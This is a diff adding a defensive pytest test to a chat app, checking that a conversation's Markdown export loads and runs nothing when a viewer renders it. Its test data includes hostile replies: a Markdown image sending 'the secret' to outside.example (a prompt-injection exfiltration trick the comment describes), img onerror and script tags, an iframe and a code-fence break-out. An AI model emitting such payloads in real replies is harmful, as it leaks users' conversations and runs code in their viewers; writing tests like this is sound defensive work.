@@ -35,6 +35,8 @@ from .data_rights_fixtures import (
 )
 
 PASSWORD = "correct horse battery 9"
+# What a Markdown viewer makes of text, links and code: nothing in them loads or runs.
+VIEWER_TEXT_TAGS = {"h1", "h2", "h3", "p", "ul", "li", "em", "strong", "a", "code", "pre", "hr", "blockquote"}
 
 
 def _client(user) -> Client:
@@ -274,6 +276,50 @@ def test_single_conversation_downloads_as_markdown_and_json(user, other_user):
     assert intruder.get(f"/api/v1/conversations/{conversation.id}/export.md").status_code == 404
     assert intruder.get(f"/api/v1/conversations/{conversation.id}/export.json").status_code == 404
     assert Client().get(f"/api/v1/conversations/{conversation.id}/export.md").status_code == 401
+
+
+@pytest.mark.django_db
+def test_the_markdown_loads_and_runs_nothing_a_reply_put_in_it_when_a_viewer_shows_it(user):
+    # A reply can be made to write an image whose address carries the conversation out (a
+    # prompt injection's classic), or raw HTML. The chat page shows neither; a Markdown viewer
+    # showing the download (most render images and raw HTML) must not either.
+    from html.parser import HTMLParser
+
+    from markdown_it import MarkdownIt
+
+    title = "![t](https://outside.example/title.png) <b>hi</b>"
+    conversation = Conversation.objects.create(
+        owner=user, title=title, model="demo:echo", system_prompt="<iframe src=https://outside.example/sp></iframe>"
+    )
+    replies = [
+        "Sure! ![pixel](https://outside.example/p.png?q=the+secret)",
+        "<img src=https://outside.example/x.png onerror=alert(1)>\n\n<script>alert(2)</script>",
+        "See ![ref][r] ``` and ````\n\n[r]: https://outside.example/ref.png",
+        # A reply cut inside a code block, then one whose fence would close it and go on as HTML.
+        "```python\nprint(1)",
+        "```\n<img src=https://outside.example/after.png>",
+        "**bold** and a [link](https://example.com/page)\n\n```python\nprint(1)\n```",
+    ]
+    question = Message.objects.create(conversation=conversation, role="user", content="hello", client_id=uuid.uuid4())
+    for text in replies:
+        Message.objects.create(conversation=conversation, role="assistant", content=text, reply_to=question)
+
+    markdown = _client(user).get(f"/api/v1/conversations/{conversation.id}/export.md").content.decode()
+    shown = MarkdownIt("commonmark", {"html": True}).render(markdown)  # a viewer that renders raw HTML
+
+    class Tags(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            elements.append((tag, dict(attrs)))
+
+    elements: list[tuple[str, dict]] = []
+    Tags().feed(shown)
+    live = [(tag, attrs) for tag, attrs in elements if tag not in VIEWER_TEXT_TAGS or set(attrs) - {"href", "class"}]
+    assert live == [], "the viewer would load or run these"
+    # Every text is still there as written, and the plain reply still reads as Markdown.
+    for text in [*replies, conversation.system_prompt]:
+        assert text in markdown
+    assert "<strong>bold</strong>" in shown and '<a href="https://example.com/page">link</a>' in shown
+    assert "![t](https://outside.example/title.png) &lt;b&gt;hi&lt;/b&gt;" in shown  # the title, as text
 
 
 @pytest.mark.django_db
